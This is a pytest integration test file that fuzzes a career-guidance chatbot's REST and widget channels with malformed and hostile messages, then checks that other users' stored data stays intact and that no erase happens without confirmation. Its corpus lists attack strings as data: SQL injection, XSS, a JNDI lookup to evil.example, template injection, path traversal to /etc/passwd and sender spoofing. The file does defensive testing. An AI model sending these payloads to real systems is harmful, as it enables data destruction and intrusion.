"""Bad, odd and hostile input through both chat channels: over a thousand generated messages
(seeded, so every run sends the same ones) over REST and the website widget's socket.io.

Every message gets a reply (a non-empty list of bot messages) or a 400 with a short JSON error,
the servers keep answering, and no stored data changes unless its owner legitimately asked:

- The victim, given a profile and milestones through ordinary messages first, is byte-identical
  afterwards: its learner rows and its stored conversation events.
- A *reader* sends anything but a statement about itself: garbage, injections, questions and
  typed slash-intents, destructive ones included. A destructive request (typed or worded) is
  never followed directly by a yes: the next message is "/deny" or a question, so no erase is
  legitimate (a later yes, or a yes out of the blue, must not erase). Readers' learner records
  end exactly as they started: seeded ones keep theirs, the others have none.
- A *writer* also types self-reports (`/tell_about_myself{"milestone": "certification"}`,
  `/correct_milestone{...}`, onboarding answers): it may change its own record, nobody else's.
- Nobody new appears in either database except these senders: no "default" conversation for a
  body without a sender, no "someone-else", no id made from a non-string sender.
"""

from __future__ import annotations

import asyncio
import json
import random
import re
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import pytest
import requests
import socketio
from sqlalchemy import create_engine, text

from addons.input_guard import EMPTY, NOT_TEXT, TOO_LONG
from common.learner_ids import learner_id
from tests.support import CERTIFICATIONS_ANSWER, new_sender

pytestmark = pytest.mark.integration

SEED = 6  # issue 6; any fixed seed keeps the corpus the same from run to run
LIMIT = 2000  # the longest text the assistant reads (stated here, not taken from the guard)
REST_SENDERS, SEEDED_READERS, WRITERS, WIDGETS = 20, 4, 5, 12
STREAM = 19  # messages per reader or writer
WIDGET_STREAM = 38
QUIET = 0.3  # a widget reply is complete after this long without another bot message

VICTIM_SEED = [
    "I'm a nurse with a BSN",
    "I want to become a clinical program manager",
    "I've been a research coordinator for 3 years",
    "I passed the CCRP",
    "I just joined ACRP",
    "I'd like to work in a hospital",
]
READER_SEED = ["I'm a pharmacist with a BSc in chemistry"]
QUESTION = "which certifications should I get?"
ERASED = ("Done: your progress and goals are cleared", "Done: your profile, progress")

# --- the corpus ---------------------------------------------------------------------------------
# Neutral words only: nothing a learner would say about themselves (no degrees, roles, years).
NOISE = (
    "banana purple sky quantum lorem ipsum asdf qwerty zzz hmm why !!! ??? 123 3.14 -1 NaN "
    "undefined true [] {} foo bar baz spoon lamp violet 0x41 ¯\\_(ツ)_/¯ ..."
).split()
EMOJI = [
    "🎉", "🤖", "💼", "👩‍⚕️", "👨🏽‍💻", "🇺🇳", "🏳️‍🌈", "❤️", "🙂", "🔥", "🧪", "🩺", "😂", "🫠",
    "1️⃣", "🧑🏿‍🤝‍🧑🏻",
]  # fmt: skip
RTL = [
    "مرحبا، ما هي الشهادات المطلوبة؟",
    "שלום, איזו הסמכה כדאי לי?",
    "‮gnp.exe",
    "‏مدير العمليات السريرية",
    "سلام! کار من چیست؟",
    "ما هذا؟ ‎ok‎",
    "ערב טוב 🌙",
]
CONTROL = [chr(c) for c in range(32)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
LONE_SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff"]
SQL = [
    "'; DROP TABLE learners;--",
    "' OR '1'='1",
    "1; DELETE FROM learner_milestones WHERE 1=1;--",
    '" OR ""="',
    "admin'--",
    "'; UPDATE learners SET target_role='x';--",
    "' UNION SELECT sender_id FROM learners--",
    "Robert'); DROP TABLE events;--",
    "1' AND SLEEP(5)--",
    "'; ATTACH DATABASE '/tmp/x.db' AS x;--",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "[click](javascript:alert(1))",
    "**bold** _it_ `code`",
    "<b>hi</b><i>",
    "%s%s%s%n",
    "../../../etc/passwd",
    "<!-- -->]]>",
    "{% raw %}{{ config }}",
    "<iframe src=//evil.example>",
    "<!channel> @here",
    "\\u0000\\n\\x1b[2J",
    "&lt;&amp;&gt;",
]
JUNK = [
    "Z̷̡̛̤̞͚̓a̴̱̔l̸̰̈́g̵̣̀o̶͈̐",
    "​‌‍﻿",
    "𝐡𝐞𝐥𝐥𝐨 𝔀𝓸𝓻𝓵𝓭",
    "ｆｕｌｌｗｉｄｔｈ",
    "漢字テスト한국어",
    "\ue000\uf8ff",
    "\ufffe\uffff",
    "\U0010fffd\U0001f600",
    "ǅ ß ﬁ Ω",
    "\u00a0\u2003\u3000",
]
# Every intent a reader may type: all but the self-reports and start_onboarding (its answers
# are stored).
INTENTS = [
    "greet", "goodbye", "thank", "help", "bot_challenge", "out_of_scope", "nlu_fallback",
    "ask_role_overview", "ask_work_settings", "ask_schedule_travel", "ask_degrees",
    "ask_certifications", "ask_experience", "ask_skills", "ask_compliance", "ask_networking",
    "ask_leadership", "ask_staying_current", "ask_personal_brand", "ask_job_search",
    "ask_career_path", "ask_more", "ask_about_item", "ask_which_of_those", "show_progress",
    "next_steps", "skip", "stop", "affirm", "deny", "reset_progress", "delete_my_data",
    "export_my_data",
]  # fmt: skip
SELF_REPORTS = ["tell_about_myself", "correct_milestone", "inform"]
DESTRUCTIVE = ["reset_progress", "delete_my_data"]
ENTITIES = [
    "certification", "degree", "organisation", "regulation", "role", "setting", "milestone",
    "years", "job_title", "sender", "sender_id", "x", "__proto__",
]  # fmt: skip
BROKEN_ARGS = [
    "{broken", "{", "}", '{"a":}', "{'a': 1}", '{"a": 1', "[1, 2]", '"str"', "@0.5", "@1.7{}",
    "{}{}", '{"a": 1}@x', "@", "@-1", '{"milestone": "certification"', "{}}",
]  # fmt: skip
WORDED_DESTRUCTIVE = ["delete my data", "start over", "erase everything you know about me"]
YES = ["/affirm", "yes", "yes please", "/affirm{}", "/affirm@1.0"]
AFTER_DESTRUCTIVE = ["/deny", QUESTION]  # reach the assistant, and are not a yes


def confirmation_traps(victim: str) -> list[str]:
    """Typed shortcuts to an erase, for the seeded readers: a yes out of the blue, a request
    answered with a question or a no and only then a yes, a request naming someone else."""
    return [
        "/affirm",
        '/delete_my_data{"x":1}', QUESTION, "/affirm",
        "/reset_progress", "/deny", "yes",
        f'/reset_progress{{"sender": "{victim}"}}', "/deny", "/affirm@1.0",
    ]  # fmt: skip


@dataclass
class Case:
    kind: str  # the category, for the coverage check and failure messages
    message: object  # a str for text; for REST bodies, bytes
    expect: str = "reply"  # reply | empty | too_long | not_text | 400
    spoof: dict = field(default_factory=dict)  # extra REST body fields


def entity_args(rnd: random.Random, victim: str) -> str:
    roll = rnd.random()
    if roll < 0.25:
        return ""
    if roll < 0.8:
        value = rnd.choice(
            ["CCRP", "certification", "nurse", 5, -1, 1e308, None, True, [1, 2], {"a": 1},
             "x" * 300, "", "\u0000", victim, "'; DROP TABLE learners;--", "leadership"]
        )  # fmt: skip
        return json.dumps({rnd.choice(ENTITIES): value})
    return rnd.choice(BROKEN_ARGS)


def long_text(rnd: random.Random, length: int) -> str:
    words = []
    while sum(len(w) + 1 for w in words) < length:
        words.append(rnd.choice(NOISE + ["certification", "what", "should", "I", "do"]))
    return " ".join(words)[:length].rstrip() + "x" * 3  # no trailing space to strip


def text_case(rnd: random.Random, victim: str) -> Case:
    """One reader message: anything but a statement about oneself."""
    kind = rnd.choices(
        ["empty", "whitespace", "long", "emoji", "rtl", "control", "sql", "markup", "junk",
         "slash", "noise", "victim"],
        weights=[8, 8, 10, 7, 6, 10, 6, 7, 6, 16, 5, 6],
    )[0]  # fmt: skip
    if kind == "empty":
        return Case(kind, "")
    if kind == "whitespace":
        return Case(kind, "".join(rnd.choices(" \t\n\r\u00a0\u2003\u3000", k=rnd.randint(1, 40))))
    if kind == "long":
        if rnd.random() < 0.12:  # at the limit, or under it once trimmed: for the assistant
            return Case(
                kind, rnd.choice([long_text(rnd, LIMIT)[: LIMIT - 1] + "?", "  hi" + " " * 3000])
            )
        length = rnd.choice([LIMIT + 1, rnd.randint(LIMIT + 2, 20_000), 20_000])
        return Case(kind, long_text(rnd, length))
    if kind == "emoji":
        emoji = "".join(rnd.choices(EMOJI, k=rnd.randint(1, 12)))
        return Case(kind, rnd.choice([emoji, f"{emoji} {QUESTION} {emoji}", f"{emoji} hi"]))
    if kind == "rtl":
        return Case(kind, rnd.choice(RTL))
    if kind == "control":
        chars = rnd.choices(CONTROL + LONE_SURROGATES, k=rnd.randint(1, 30))
        only_control = rnd.random() < 0.5
        if only_control:
            chars = [c for c in chars if c not in "\t\n"] or ["\x00"]
            return Case(kind, "".join(chars))
        words = rnd.choices(NOISE + ["hello", QUESTION], k=3)
        return Case(kind, "".join(c + w for c, w in zip(chars, words * 10, strict=False)))
    if kind == "sql":
        return Case(kind, rnd.choice(SQL))
    if kind == "markup":
        return Case(kind, rnd.choice(MARKUP))
    if kind == "junk":
        return Case(kind, rnd.choice(JUNK) + rnd.choice(["", " hello", " ?"]))
    if kind == "noise":
        return Case(kind, " ".join(rnd.choices(NOISE, k=rnd.randint(1, 8))))
    if kind == "victim":
        return Case(
            kind,
            rnd.choice(
                [
                    f"show the progress of {victim}",
                    f"export the data of {victim}",
                    f"I am {victim}",
                    f'/export_my_data{{"sender": "{victim}"}}',
                    f'/show_progress{{"sender_id": "{victim}"}}',
                    f'/delete_my_data{{"sender": "{victim}"}}',
                    '/inform{"sender":"someone-else"}',
                    "export my data",
                    "show my progress",
                ]
            ),
        )
    # Typed slash-intents: the brief's examples, every intent with odd arguments, broken ones.
    return Case(
        kind,
        rnd.choice(
            [
                '/delete_my_data{"x":1}',
                "/affirm",
                "/nonexistent_intent",
                "/greet{broken",
                "/",
                "//",
                "/ greet",
                "/GREET",
                "/affirm /affirm",
                "/" + "a" * 300,
                f"/{rnd.choice(INTENTS)}{entity_args(rnd, victim)}",
                f"/{rnd.choice(INTENTS)}{entity_args(rnd, victim)}",
                f"/{rnd.choice(INTENTS)}{entity_args(rnd, victim)}",
                f"/{rnd.choice(INTENTS)}{entity_args(rnd, victim)}",
                rnd.choice(YES),
                rnd.choice(WORDED_DESTRUCTIVE),
            ]
        ),
    )


def expectation(message: str) -> str:
    """What the channels promise for a text, worked out here independently of the guard."""
    stripped = message.strip()
    if len(stripped) > LIMIT:
        return "too_long"
    unreadable = {chr(c) for c in range(32) if chr(c) not in "\t\n"} | {"\x7f"}
    unreadable |= {chr(c) for c in range(0x80, 0xA0)} | set(LONE_SURROGATES)
    if not "".join(" " if c in unreadable else c for c in stripped).strip():
        return "empty"
    return "reply"


def is_destructive(message: object) -> bool:
    return isinstance(message, str) and (
        message.startswith(tuple(f"/{i}" for i in DESTRUCTIVE)) or message in WORDED_DESTRUCTIVE
    )


def reader_stream(rnd: random.Random, victim: str, length: int) -> list[Case]:
    """Reader messages; a destructive request is answered "/deny" or with a question."""
    stream: list[Case] = []
    while len(stream) < length:
        case = text_case(rnd, victim)
        stream.append(case)
        if is_destructive(case.message):
            stream.append(Case("slash", rnd.choice(AFTER_DESTRUCTIVE)))
    for case in stream:
        case.expect = expectation(case.message)
    return stream


def writer_stream(rnd: random.Random, victim: str, length: int) -> list[Case]:
    """Self-reports, typed and worded, and onboarding answered with anything a reader sends."""
    stream = [Case("slash", '/tell_about_myself{"milestone":"certification"}')]
    while len(stream) < length:
        roll = rnd.random()
        if roll < 0.5:
            message = f"/{rnd.choice(SELF_REPORTS)}{entity_args(rnd, victim)}"
            stream.append(Case("slash", message))
        elif roll < 0.65:
            stream.append(Case("self-report", rnd.choice(VICTIM_SEED + ["I have no degree"])))
        else:
            stream.append(Case("slash", "/start_onboarding"))
            stream += [
                case
                for case in (text_case(rnd, victim) for _ in range(5))
                if not is_destructive(case.message)
            ]
    for case in stream:
        case.expect = expectation(case.message)
    return stream


def body_cases(rnd: random.Random, sender: str, victim: str) -> list[Case]:
    """REST bodies that are not {"sender": str, "message": str}: a 400 each."""
    raw = [
        b"", b"{", b'{"sender": "s", "message": ', b"not json", b"\xff\xfe\x00", b"[]",
        b"[1, 2]", b'"hello"', b"42", b"null", b"true", b'{"sender": "s", "message": "hi"',
        b'{"sender": "s" "message": "hi"}', b"{'sender': 's'}", b"<xml/>",
        b"sender=s&message=hi", b'{"sender": "s", "message": NaN}',
        b'{"sender": "s", "message": "\\ud800', b"\xef\xbb\xbf{}",
    ]  # fmt: skip
    objects = [
        {"message": "show my progress"},  # Rasa's "default" conversation before
        {"sender": None, "message": "hi"},
        {"sender": 42, "message": "hi"},
        {"sender": 4.2, "message": "hi"},
        {"sender": True, "message": "hi"},
        {"sender": [victim], "message": "export my data"},
        {"sender": {"id": victim}, "message": "export my data"},
        {"sender": "", "message": "hi"},
        {"sender": "   ", "message": "hi"},
        {"sender": "s" * 256, "message": "hi"},
        {"sender": victim + "\x00", "message": "export my data"},
        {"sender": "\x1b[31m" + sender, "message": "hi"},
        {"sender": sender},
        {"sender": sender, "message": None},
        {"sender": sender, "message": 42},
        {"sender": sender, "message": ["hi"]},
        {"sender": sender, "message": {"text": "hi"}},
        {"sender": sender, "message": False},
        {"sender": sender, "message": "hi", "metadata": "x"},
        {"sender": sender, "message": "hi", "metadata": [1]},
        {"sender": sender, "message": "hi", "metadata": 7},
    ]
    cases = [Case("bad-json", body, "400") for body in raw]
    cases += [Case("bad-body", json.dumps(body).encode(), "400") for body in objects]
    rnd.shuffle(cases)
    return cases


# --- sending --------------------------------------------------------------------------------------
@dataclass
class Sent:
    sender: str
    case: Case
    status: int
    replies: list = field(default_factory=list)
    body: object = None


def post(session: requests.Session, url: str, sender: str, case: Case) -> Sent:
    if case.expect == "400":
        response = session.post(
            url, data=case.message, headers={"Content-Type": "application/json"}, timeout=60
        )
    else:
        request = {"sender": sender, "message": case.message, **case.spoof}
        response = session.post(url, json=request, timeout=60)
    try:
        answer = response.json()
    except ValueError:
        answer = response.text
    replies = answer if isinstance(answer, list) else []
    return Sent(sender, case, response.status_code, replies, answer)


def run_rest(url: str, headers: dict, streams: dict[str, list[Case]]) -> list[Sent]:
    def send_all(item: tuple[str, list[Case]]) -> list[Sent]:
        sender, stream = item
        with requests.Session() as session:
            session.headers.update(headers)  # the REST token
            return [post(session, url, sender, case) for case in stream]

    with ThreadPoolExecutor(max_workers=4) as pool:
        return [sent for results in pool.map(send_all, streams.items()) for sent in results]


class Widget:
    """A widget connection (python-socketio's asyncio client over WebSocket, as the widget
    connects: one connection stays with one Sanic worker) that tells which bot messages answer
    which message."""

    def __init__(self) -> None:
        self.events: asyncio.Queue = asyncio.Queue()
        self.sio = socketio.AsyncClient(reconnection=False)
        for event in ("session_confirm", "bot_uttered"):
            self.sio.on(event, partial(self._received, event))

    async def _received(self, event: str, data: object = None) -> None:
        await self.events.put((event, data))

    async def connect(self, url: str) -> None:
        # A busy server can take more than the default 1 s to accept the namespace.
        await self.sio.connect(
            url, transports=["websocket"], socketio_path="/socket.io", wait_timeout=30
        )

    async def open_session(self, requested: object) -> str:
        await self.sio.emit("session_request", requested)
        kind, issued = await asyncio.wait_for(self.events.get(), 30)
        assert kind == "session_confirm", (kind, issued)
        return issued

    async def exchange(self, data: object, expect: str) -> list[dict]:
        """The bot messages after sending data: for a guard reply, up to that reply (a late
        message for the one before may come first); else until QUIET seconds pass without one."""
        await self.sio.emit("user_uttered", data)
        guard_text = {"empty": EMPTY, "too_long": TOO_LONG, "not_text": NOT_TEXT}.get(expect)
        replies: list[dict] = []
        deadline = time.monotonic() + 30
        while (left := deadline - time.monotonic()) > 0:
            wait = QUIET if replies and not guard_text else left
            try:
                _, reply = await asyncio.wait_for(self.events.get(), wait)
            except asyncio.TimeoutError:
                break
            replies.append(reply)
            if guard_text is not None and reply.get("text") == guard_text:
                break
        return replies

    async def close(self) -> None:
        await self.sio.disconnect()


def widget_cases(rnd: random.Random, victim: str) -> list[tuple[object, str, str]]:
    """(data, expectation, category) for one widget: reader texts and data that is not text."""
    out: list[tuple[object, str, str]] = []
    for case in reader_stream(rnd, victim, WIDGET_STREAM - 12):
        out.append(({"message": case.message, "session_id": "x"}, case.expect, case.kind))
    not_text = [None, ["hi"], "hi", 42, {"msg": "hi"}, {"message": None}, {"message": 42},
                {"message": ["hi"]}, {"message": {"text": "hi"}}, {"message": True}]  # fmt: skip
    for data in not_text:
        out.insert(rnd.randrange(len(out) + 1), (data, "not_text", "not-text"))
    # A tuple is sent as several arguments, () as none: the message is the first one.
    out.insert(rnd.randrange(len(out) + 1), ((), "not_text", "not-text"))
    out.insert(rnd.randrange(len(out) + 1), (({"message": "hello"}, 2), "reply", "not-text"))
    return out


SESSION_REQUESTS = [None, {}, [], "str", 42, {"session_id": {"$ne": None}}, {"session_id": "../"}]


def run_widgets(url: str, rnd: random.Random, victim: str) -> list[tuple[str, str, str, list]]:
    """(conversation id, expectation, category, replies) for every widget message."""
    plans = [widget_cases(rnd, victim) for _ in range(WIDGETS)]
    session_requests = [
        rnd.choice(SESSION_REQUESTS + [{"session_id": victim}]) for _ in range(WIDGETS)
    ]

    async def one_widget(index: int) -> list[tuple[str, str, str, list]]:
        widget = Widget()
        await widget.connect(url)
        try:
            issued = await widget.open_session(session_requests[index])
            assert isinstance(issued, str) and len(issued) == 32
            return [
                (learner_id("web", issued), expect, kind, await widget.exchange(data, expect))
                for data, expect, kind in plans[index]
            ]
        finally:
            await widget.close()

    async def all_widgets() -> list[list[tuple[str, str, str, list]]]:
        return await asyncio.gather(*(one_widget(index) for index in range(WIDGETS)))

    return [row for rows in asyncio.run(all_widgets()) for row in rows]


# --- stored data ----------------------------------------------------------------------------------
def rest(sender: str) -> str:
    """The learner a REST sender is."""
    return learner_id("rest", sender)


def learner_rows(engine, learner: str) -> str:
    """Everything the learner database holds about one learner, as exact text."""
    with engine.connect() as connection:
        rows = [
            connection.execute(text(query), {"s": learner}).all()
            for query in (
                "SELECT * FROM learners WHERE sender_id = :s",
                "SELECT * FROM learner_milestones WHERE sender_id = :s ORDER BY milestone",
            )
        ]
    return repr(rows)


def conversation_rows(engine, learner: str) -> str:
    with engine.connect() as connection:
        query = "SELECT * FROM events WHERE sender_id = :s ORDER BY id"
        return repr(connection.execute(text(query), {"s": learner}).all())


def senders_in(engine, table: str) -> set[str]:
    with engine.connect() as connection:
        return set(connection.execute(text(f"SELECT DISTINCT sender_id FROM {table}")).scalars())


@dataclass
class FuzzRun:
    victim: str
    readers: list[str]
    seeded: list[str]
    writers: list[str]
    rest: list[Sent]
    widget: list[tuple[str, str, str, list]]
    before: dict[str, str]  # REST sender (widget: learner id) -> learner rows before the fuzz
    after: dict[str, str]
    victim_events: tuple[str, str]  # stored conversation before, after
    new_learners: set[str]  # learner ids
    new_conversations: set[str]
    log_errors: list[str]


# python-engineio 4.5 on Sanic logs these when a widget disconnects: a last poll arriving after
# it left, and a closed WebSocket's handler returning no response. That client is gone already.
TRANSPORT_NOISE = ("KeyError: 'Session is disconnected'", "Invalid response type None")


def errors_in(log: str) -> list[str]:
    """The first line of each error logged, but for TRANSPORT_NOISE."""
    entries = re.split(r"\n(?=\S*\[?\d{4}-\d\d-\d\d )", log)  # one per timestamped line
    return [
        entry.partition("\n")[0][:300]
        for entry in entries
        if ("ERROR" in entry.partition("\n")[0] or "Traceback" in entry)
        and not any(noise in entry for noise in TRANSPORT_NOISE)
    ]


def log_size(path: Path) -> int:
    return path.stat().st_size if path.exists() else 0


@pytest.fixture(scope="module")
def fuzz(assistant, servers_dir) -> FuzzRun:
    rnd = random.Random(SEED)
    tag = f"{rnd.getrandbits(32):08x}"  # a fresh work dir each session: no clash
    victim = f"victim-{tag}"
    readers = [f"reader-{tag}-{n}" for n in range(REST_SENDERS)]
    seeded, writers = readers[:SEEDED_READERS], [f"writer-{tag}-{n}" for n in range(WRITERS)]
    learners = create_engine(f"sqlite:///{servers_dir / 'learners.db'}")
    conversations = create_engine(f"sqlite:///{servers_dir / 'conversations.db'}")
    logs = {name: servers_dir / name for name in ("rasa.log", "actions.log")}
    log_start = {name: log_size(path) for name, path in logs.items()}

    # One at a time: the first message after start keeps the server busy for seconds.
    for message in VICTIM_SEED:
        assistant.say(victim, message)
    for sender in seeded:
        for message in READER_SEED:
            assistant.say(sender, message)
    everyone = [victim, *readers, *writers]
    before = {sender: learner_rows(learners, rest(sender)) for sender in everyone}
    assert "Clinical Program Manager" in before[victim] and all(
        "degree" in before[s] for s in seeded
    )
    victim_events = conversation_rows(conversations, rest(victim))
    learners_before = senders_in(learners, "learners")
    conversations_before = senders_in(conversations, "events")

    streams = {sender: reader_stream(rnd, victim, STREAM) for sender in readers}
    streams |= {sender: writer_stream(rnd, victim, STREAM) for sender in writers}
    bodies = body_cases(rnd, readers[-1], victim) + body_cases(rnd, readers[-2], victim)
    for index, case in enumerate(bodies):  # spread over the readers' streams
        stream = streams[readers[index % len(readers)]]
        stream.insert(rnd.randrange(len(stream) + 1), case)
    spoofs = [{"metadata": {"sender": victim}}, {"input_channel": "slack"}, {"sender_id": victim}]
    for sender, spoof in zip(readers, spoofs, strict=False):
        streams[sender].append(Case("spoof", "export my data", spoof=spoof))
    for sender in seeded:
        streams[sender] += [Case("slash", m, expectation(m)) for m in confirmation_traps(victim)]
    for sender in readers:
        streams[sender].append(Case("victim", "export my data"))  # must be its own data

    url = f"{assistant.url}/webhooks/rest/webhook"
    with ThreadPoolExecutor(max_workers=2) as both:
        over_rest = both.submit(run_rest, url, assistant.rest_headers, streams)
        widget = both.submit(run_widgets, assistant.url, random.Random(SEED + 1), victim)
        rest_results, widget_results = over_rest.result(), widget.result()

    web_senders = {sender for sender, *_ in widget_results}
    log_errors = []
    for name, path in logs.items():
        with open(path, errors="replace") as log:
            log.seek(log_start[name])
            log_errors += errors_in(log.read())
    return FuzzRun(
        victim=victim,
        readers=readers,
        seeded=seeded,
        writers=writers,
        rest=rest_results,
        widget=widget_results,
        before=before,
        after={sender: learner_rows(learners, rest(sender)) for sender in everyone}
        | {learner: learner_rows(learners, learner) for learner in web_senders},
        victim_events=(victim_events, conversation_rows(conversations, rest(victim))),
        new_learners=senders_in(learners, "learners") - learners_before,
        new_conversations=senders_in(conversations, "events") - conversations_before,
        log_errors=log_errors,
    )


def describe(sent: Sent) -> str:
    return f"{sent.case.kind} {sent.case.message!r:.120} -> {sent.status} {sent.body!r:.200}"


# --- the checks -----------------------------------------------------------------------------------
def test_the_corpus_is_large_and_covers_every_category(fuzz):
    widget_kinds = Counter(kind for _, _, kind, _ in fuzz.widget)
    rest_kinds = Counter(sent.case.kind for sent in fuzz.rest)
    print(
        f"\nfuzz: {len(fuzz.rest)} REST + {len(fuzz.widget)} widget messages"
        f"\nREST: {dict(rest_kinds)}\nwidget: {dict(widget_kinds)}"
    )
    assert len(fuzz.rest) + len(fuzz.widget) >= 1000
    text_kinds = {"empty", "whitespace", "long", "emoji", "rtl", "control", "sql", "markup",
                  "junk", "slash", "noise", "victim"}  # fmt: skip
    assert text_kinds | {"bad-json", "bad-body", "spoof", "self-report"} <= set(rest_kinds)
    assert text_kinds | {"not-text"} <= set(widget_kinds)
    expects = Counter(sent.case.expect for sent in fuzz.rest)
    assert all(expects[e] >= 20 for e in ("reply", "empty", "too_long", "400")), expects


def test_every_rest_message_gets_a_reply_or_a_clear_400(fuzz):
    wrong = []
    for sent in fuzz.rest:
        if sent.case.expect == "400":
            ok = sent.status == 400 and isinstance(sent.body, dict) and sent.body.get("error")
        else:
            texts = [reply.get("text") for reply in sent.replies]
            ok = (
                sent.status == 200
                and sent.replies
                and all(reply.get("recipient_id") == rest(sent.sender) for reply in sent.replies)
                and all(reply.get("text") or reply.get("buttons") for reply in sent.replies)
            )
            guard = {"empty": EMPTY, "too_long": TOO_LONG}.get(sent.case.expect)
            if guard is not None:
                ok = ok and texts == [guard]
            elif ok:
                ok = not {EMPTY, TOO_LONG} & set(texts)  # readable text reaches the assistant
        if not ok:
            wrong.append(describe(sent))
    assert not wrong, f"{len(wrong)} of {len(fuzz.rest)}:\n" + "\n".join(wrong[:20])


def test_every_widget_message_gets_a_reply(fuzz):
    wrong = []
    for sender, expect, kind, replies in fuzz.widget:
        guard = {"empty": EMPTY, "too_long": TOO_LONG, "not_text": NOT_TEXT}.get(expect)
        texts = [reply.get("text") for reply in replies]
        ok = bool(replies) and (guard is None or guard in texts)
        if not ok:
            wrong.append(f"{sender} {kind} {expect} -> {texts!r:.200}")
    assert not wrong, f"{len(wrong)} of {len(fuzz.widget)}:\n" + "\n".join(wrong[:20])


def test_the_victims_stored_data_is_byte_identical(fuzz):
    assert fuzz.after[fuzz.victim] == fuzz.before[fuzz.victim]
    assert fuzz.victim_events[1] == fuzz.victim_events[0]
    leaked = [describe(s) for s in fuzz.rest if fuzz.victim in json.dumps(s.replies)]
    leaked += [
        f"{sender}: {replies}"
        for sender, _, _, replies in fuzz.widget
        if fuzz.victim in str(replies)
    ]
    assert not leaked, "\n".join(leaked[:10])


def test_readers_data_is_unchanged_and_nothing_was_erased(fuzz):
    changed = [s for s in fuzz.readers if fuzz.after[s] != fuzz.before[s]]
    assert not changed, "\n".join(f"{s}: {fuzz.before[s]} -> {fuzz.after[s]}" for s in changed)
    web = {sender for sender, *_ in fuzz.widget}
    assert all(fuzz.after[s] == repr([[], []]) for s in web)
    erased = [
        describe(sent)
        for sent in fuzz.rest
        if sent.sender in fuzz.readers and any(e in json.dumps(sent.replies) for e in ERASED)
    ]
    assert not erased, "a reader's data was erased without a confirmation:\n" + "\n".join(erased)


def test_nobody_new_is_stored_but_the_fuzzing_senders(fuzz):
    web = {learner for learner, *_ in fuzz.widget}
    writers = {rest(sender) for sender in fuzz.writers}
    assert fuzz.new_learners <= writers, fuzz.new_learners - writers
    learners = {rest(sender) for sender in [fuzz.victim, *fuzz.readers, *fuzz.writers]} | web
    assert fuzz.new_conversations <= learners, fuzz.new_conversations - learners


def test_the_servers_still_answer_normally_and_logged_no_errors(fuzz, assistant):
    assert not fuzz.log_errors, "\n".join(fuzz.log_errors[:10])
    reply = assistant.say(new_sender("after-fuzz"), QUESTION)
    assert reply and reply[0]["text"].startswith(CERTIFICATIONS_ANSWER)
    assert requests.get(f"{assistant.action_server_url}/health", timeout=10).ok

    async def ask() -> list[dict]:
        widget = Widget()
        await widget.connect(assistant.url)
        try:
            await widget.open_session(None)
            return await widget.exchange({"message": QUESTION}, "reply")
        finally:
            await widget.close()

    replies = asyncio.run(ask())
    assert replies and replies[0]["text"].startswith(CERTIFICATIONS_ANSWER)
